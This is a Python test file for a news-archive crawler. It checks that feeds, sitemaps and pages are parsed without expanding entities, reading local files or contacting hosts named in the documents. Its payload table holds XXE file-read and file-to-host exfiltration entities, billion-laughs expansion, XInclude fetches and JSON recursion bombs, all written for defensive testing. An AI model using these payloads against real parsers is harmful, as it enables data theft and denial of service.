"""Documents that expand, or that name files and hosts: nothing grows, nothing is opened, what is sound is read."""

import dataclasses
import json
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from newsarchive.article import ArticleLink
from newsarchive.discovery.feeds import read_feed
from newsarchive.discovery.pages import read_front_page
from newsarchive.discovery.sitemaps import read_sitemap
from newsarchive.extraction import extract
from tests.extraction.making import page
from tests.safety.serving import NOT_FOUND, Answer, Serving, article, crawl, front, serving

CANARY = "c4nary-of-a-file"
HOME = "https://news.example"
ADDRESSES = tuple(f"{HOME}/2026/11/01/ferries-of-pier-{n}" for n in (1, 2))
LONGEST = 200_000  # characters in a field of what has been read; the blow-up would be 250 million
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
# `FILE` and `HOST` stand for a file with the canary and for a listening host, `ROOT` for the root element's name.
PROLOGUES: Mapping[str, tuple[str, str]] = {
    "billion laughs": (f'<!DOCTYPE ROOT [<!ENTITY l0 "ha">{_LAUGHS}]>', "&l9;"),
    "quadratic blow-up": (f'<!DOCTYPE ROOT [<!ENTITY q "{"q" * 5000}">]>', "&q;" * 50_000),
    "an entity of itself": ('<!DOCTYPE ROOT [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "entity of a file": ('<!DOCTYPE ROOT [<!ENTITY e SYSTEM "file://FILE">]>', "&e;"),
    "entity of a path": ('<!DOCTYPE ROOT [<!ENTITY e SYSTEM "FILE">]>', "&e;"),
    "entity of a host": ('<!DOCTYPE ROOT [<!ENTITY e SYSTEM "HOST/entity">]>', "&e;"),
    "public entity": ('<!DOCTYPE ROOT [<!ENTITY e PUBLIC "-//x//y" "HOST/public">]>', "&e;"),
    "DTD of a file": ('<!DOCTYPE ROOT SYSTEM "file://FILE">', ""),
    "DTD of a host": ('<!DOCTYPE ROOT SYSTEM "HOST/dtd">', ""),
    "public DTD": ('<!DOCTYPE ROOT PUBLIC "-//W3C//DTD XHTML 1.0//EN" "HOST/xhtml.dtd">', "&nbsp;"),
    "parameter entity of a file": ('<!DOCTYPE ROOT [<!ENTITY % p SYSTEM "file://FILE">%p;]>', ""),
    "parameter entity of a host": ('<!DOCTYPE ROOT [<!ENTITY % p SYSTEM "HOST/parameter">%p;]>', ""),
    "a file sent to a host": (
        '<!DOCTYPE ROOT [<!ENTITY % f SYSTEM "file://FILE"><!ENTITY % p SYSTEM "HOST/eval">%p;%send;]>',
        "",
    ),
    "entity in an attribute": ('<!DOCTYPE ROOT [<!ENTITY e SYSTEM "file://FILE">]>', '<x y="&e;"/>'),
    "attribute with a default": ('<!DOCTYPE ROOT [<!ATTLIST ROOT xml:base CDATA "HOST/">]>', ""),
    "XInclude of a file": ("", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="FILE" parse="text"/>'),
    "XInclude of a host": ("", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="HOST/xi"/>'),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="HOST/xsl"?>', ""),
    "schema": ("", '<x xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="HOST/ HOST/xsd"/>'),
}
FEED = (
    "<?xml version='1.0'?>PROLOGUE<rss version='2.0'><channel><title>USE</title>"
    f"<item><title>First USE</title><link>{ADDRESSES[0]}</link></item>"
    "<item><title>Other</title><link>USE</link></item>"
    f"<item><title>Second</title><link>{ADDRESSES[1]}</link></item></channel></rss>"
)
SITEMAP = (
    "<?xml version='1.0'?>PROLOGUE<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
    f"<url><loc>{ADDRESSES[0]}</loc><lastmod>USE</lastmod></url><url><loc>USE</loc></url>"
    f"<url><loc>{ADDRESSES[1]}</loc></url></urlset>"
)
HUGE = {
    "a whole number": "9" * 100_000,
    "a negative one": "-" + "9" * 100_000,
    "an exponent": "1e999999999",
    "a fraction": "0." + "1" * 100_000,
    "no number": "NaN",
    "lists": "[" * 900 + "]" * 900,
    "lists beyond recursion": "[" * 100_000 + "]" * 100_000,
    "objects beyond recursion": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "half a character": '"\\ud800"',
}


@pytest.fixture(scope="module")
def listener() -> Iterator[Serving]:
    """A host that nobody is to ask, whatever the test."""
    with serving(lambda _: Answer(b"<!ENTITY send 'x'>"), "127.0.0.8") as site:
        yield site


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that nobody is to read."""
    path = tmp_path / "secrets" / "canary.txt"
    path.parent.mkdir()
    path.write_text(CANARY, encoding="utf-8")
    return path


def written(template: str, name: str, canary: Path, host: str, *, root: str) -> str:
    """Return a document with one of the prologues, and with what makes use of it."""
    prologue, use = PROLOGUES[name]
    text = template.replace("PROLOGUE", prologue).replace("USE", use)
    return text.replace("FILE", str(canary)).replace("HOST", host).replace("ROOT", root)


def fields(link: ArticleLink) -> str:
    """Return what is longest of an article link."""
    return max(map(str, dataclasses.asdict(link).values()), key=len)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", PROLOGUES)
def test_a_feed_opens_nothing_and_is_read(name: str, encoding: str, canary: Path, listener: Serving) -> None:
    """Whole or damaged, its other entries are read."""
    text = written(FEED, name, canary, listener.base, root="rss")
    for body in (text, text.replace("</channel>", "</channel")):
        feed = read_feed(body.encode(encoding), f"{HOME}/feed")
        assert set(ADDRESSES) <= {link.url for link in feed.links}, feed.problem
        assert CANARY not in repr(feed)
        assert max(len(part) for part in (feed.title, *map(fields, feed.links))) < LONGEST
    assert not listener.asked


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", PROLOGUES)
def test_a_sitemap_opens_nothing_and_is_read(name: str, encoding: str, canary: Path, listener: Serving) -> None:
    """Whole or damaged, its other entries are read."""
    text = written(SITEMAP, name, canary, listener.base, root="urlset")
    for body in (text, text.replace("</urlset>", "</urlset")):
        sitemap = read_sitemap(body.encode(encoding), f"{HOME}/sitemap.xml")
        assert set(ADDRESSES) <= {link.url for link in sitemap.links}, sitemap.problem
        assert CANARY not in repr(sitemap)
        assert max(map(len, map(fields, sitemap.links))) < LONGEST
    assert not listener.asked


def test_a_document_that_begins_with_a_large_dtd_is_refused() -> None:
    """What it is must be seen in its first 8192 characters."""
    large = f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>'
    assert read_feed(FEED.replace("PROLOGUE", large).encode(), HOME).problem == "neither RSS, Atom nor JSON Feed"
    assert (
        read_sitemap(SITEMAP.replace("PROLOGUE", large).encode(), HOME).problem == "neither XML nor a list of addresses"
    )


@pytest.mark.parametrize("name", PROLOGUES)
def test_a_page_opens_nothing_and_is_read(name: str, canary: Path, listener: Serving) -> None:
    """Its article and its links."""
    prologue = written("PROLOGUE", name, canary, listener.base, root="html")
    use = written("<p>USE</p>", name, canary, listener.base, root="html")
    sound = page(after=f"{use}<a href='{ADDRESSES[0]}'>a link</a>").decode()
    html = (prologue + sound.removeprefix("<!DOCTYPE html>")).encode()
    found = extract(html, f"{HOME}/2026/11/01/the-harbour-is-closed")
    assert found.title == "The harbour is closed"
    assert "no ship had moved" in found.text
    links = read_front_page(html, HOME).links
    assert ADDRESSES[0] in {link.url for link in links}
    assert CANARY not in repr((found, links))
    assert len(found.text) < LONGEST
    assert not listener.asked


@pytest.mark.parametrize("value", HUGE.values(), ids=HUGE)
def test_a_feed_in_json_is_read_around_what_is_huge(value: str) -> None:
    """The entry before it always, the one behind it where the value is bounded."""
    first, second = (json.dumps({"title": "t", "url": url}) for url in ADDRESSES)
    text = f'{{"items": [{first}, {{"title": "x", "size": {value}}}, {second}], "size": {value}}}'
    found = [link.url for link in read_feed(text.encode(), f"{HOME}/feed.json").links]
    assert found == list(ADDRESSES[:1] if "beyond" in _name(value) else ADDRESSES)


@pytest.mark.parametrize("value", HUGE.values(), ids=HUGE)
def test_a_page_is_read_around_what_is_huge_in_its_json(value: str) -> None:
    """Headline and date of the same block are still found, or those of the page; its links too."""
    node = (
        f'{{"@type": "NewsArticle", "wordCount": {value}, "headline": "The harbour is closed",'
        f' "datePublished": "2026-11-01T06:00:00Z", "author": {value}}}'
    )
    html = page(node=node, after=f"<a href='{ADDRESSES[0]}'>a link</a>")
    found = extract(html, f"{HOME}/2026/11/01/the-harbour-is-closed")
    assert (found.title, found.date_published[:10]) == ("The harbour is closed", "2026-11-01")
    assert "no ship had moved" in found.text
    assert ADDRESSES[0] in {link.url for link in read_front_page(html, HOME).links}


def _name(value: str) -> str:
    return next(name for name, given in HUGE.items() if given == value)


def test_a_crawl_opens_nothing_that_documents_name(canary: Path, listener: Serving, tmp_path: Path) -> None:
    """From the feed and the sitemap to the archive: no connection, no content of the file, every article."""
    names = list(PROLOGUES)

    def tell(path: str) -> Answer:
        kind, _, number = path.strip("/").rpartition("-")
        if kind == "map" and number.isdigit():
            return _document(SITEMAP, "urlset", int(number))
        if kind == "feed" and number.isdigit():
            return _document(FEED, "rss", int(number))
        if kind.startswith("2026/"):
            return _page(path, int(number))
        if path == "/robots.txt":
            maps = "".join(f"Sitemap: {site.base}/map-{n}\n" for n in range(len(names)))
            return Answer(f"User-agent: *\nAllow: /\n{maps}".encode(), "text/plain")
        return front("/feed-0") if path == "/" else NOT_FOUND

    def _document(template: str, root: str, number: int) -> Answer:
        local = template.replace(
            f"{HOME}/2026/11/01/ferries-of-pier-1", f"{site.base}/2026/11/01/{root}-ferries-{number}"
        )
        return Answer(written(local, names[number], canary, listener.base, root=root).encode(), "application/xml")

    def _page(path: str, number: int) -> Answer:
        prologue = written("PROLOGUE<p>USE</p>", names[number], canary, listener.base, root="html")
        return Answer(prologue.encode() + bytes(article(number + 100 * ("rss" in path)).body))  # type: ignore[arg-type]

    with serving(tell) as site:
        done = crawl(tmp_path, "-a", f"url={site.base}/")
        assert done.returncode in {0, 3}, done.stdout + done.stderr
        asked = {path for path in site.asked if path.startswith("/2026/11/01/urlset")}
    assert asked == {f"/2026/11/01/urlset-ferries-{n}" for n in range(len(names))}, done.stdout
    assert not listener.asked
    kept = [path for path in tmp_path.rglob("*") if path.is_file() and path != canary]
    assert kept
    assert not [path for path in kept if CANARY.encode() in path.read_bytes()]
